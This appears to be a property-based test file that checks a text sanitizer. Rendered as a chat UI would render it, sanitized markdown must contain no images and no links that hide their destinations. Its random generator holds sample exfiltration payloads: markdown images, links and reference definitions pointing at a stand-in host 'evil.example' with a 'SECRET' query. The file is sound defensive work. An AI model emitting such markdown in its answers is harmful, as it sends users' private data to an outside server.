import { sanitizeText } from "@search-docs/core";
import fc from "fast-check";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";

// The sanitizer judged by a real renderer: micromark with GitHub-flavoured markdown is the
// parser behind react-markdown, which most chat UIs render answers with. Whatever a document
// holds, the text the model reads must render to no image and to no link whose visible text
// hides where it goes (a bare URL, shown whole, may still be linked).

const render = (markdown: string) =>
  micromark(markdown, { extensions: [gfm()], htmlExtensions: [gfmHtml()] });

function hiddenDestinations(html: string): string[] {
  const hidden: string[] = [];
  for (const [, href = "", inner = ""] of html.matchAll(/<a href="([^"]*)"[^>]*>(.*?)<\/a>/gs)) {
    const text = decodeEntities(inner.replace(/<[^>]+>/g, ""));
    const destination = decodeEntities(href);
    // An empty href (a scheme the renderer refuses) goes nowhere.
    if (destination === "") continue;
    const shown = [text, `http://${text}`, `https://${text}`, `mailto:${text}`];
    if (
      !shown.some((candidate) => candidate === destination || encodeURI(candidate) === destination)
    ) {
      hidden.push(`${text} -> ${destination}`);
    }
  }
  return hidden;
}

function decodeEntities(text: string): string {
  return text
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&#x27;|&#39;/g, "'")
    .replace(/&amp;/g, "&");
}

/** Markdown-ish soup: the pieces links, images and definitions are made of, in any order. */
const hostileMarkdown = fc
  .array(
    fc.oneof(
      {
        weight: 6,
        arbitrary: fc.constantFrom(
          "[",
          "]",
          "(",
          ")",
          "![",
          "](",
          "<",
          ">",
          "\\",
          ":",
          " ",
          "\n",
          "\n\n",
          "'",
          '"',
        ),
      },
      {
        weight: 4,
        arbitrary: fc.constantFrom(
          "https://evil.example/p.png?q=SECRET",
          "![a](https://evil.example/p.png?q=SECRET)",
          "[a](https://evil.example/?q=SECRET)",
          "[a](<https://evil.example/a b?q=SECRET> 'title')",
          "![a [b]](https://evil.example/p.png?q=SECRET)",
          "(https://evil.example/p.png?q=SECRET)",
          "<https://evil.example/a?q=SECRET>",
          "[l]: https://evil.example/d?q=SECRET",
          "[l]",
          "![l]",
          "[x][l]",
          "![x][l]",
          '"title"',
          "www.evil.example/q?SECRET",
          "> ",
          "- ",
          "`",
          "text",
        ),
      },
      { weight: 1, arbitrary: fc.string({ maxLength: 3 }) },
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(""));

describe("sanitized text, rendered as a chat UI would (property)", () => {
  it("renders no image and no link that hides its destination", () => {
    fc.assert(
      fc.property(hostileMarkdown, (markdown) => {
        const html = render(sanitizeText(markdown));
        expect(html).not.toMatch(/<img\b/i);
        expect(hiddenDestinations(html)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  it("the oracle is not vacuous: the same soup, unsanitized, renders images and hidden links", () => {
    let images = 0;
    let hidden = 0;
    fc.assert(
      fc.property(hostileMarkdown, (markdown) => {
        const html = render(markdown);
        if (/<img\b/i.test(html)) images++;
        if (hiddenDestinations(html).length > 0) hidden++;
      }),
      { numRuns: 3000, seed: 5 },
    );
    expect(images).toBeGreaterThan(300);
    expect(hidden).toBeGreaterThan(300);
  });
});
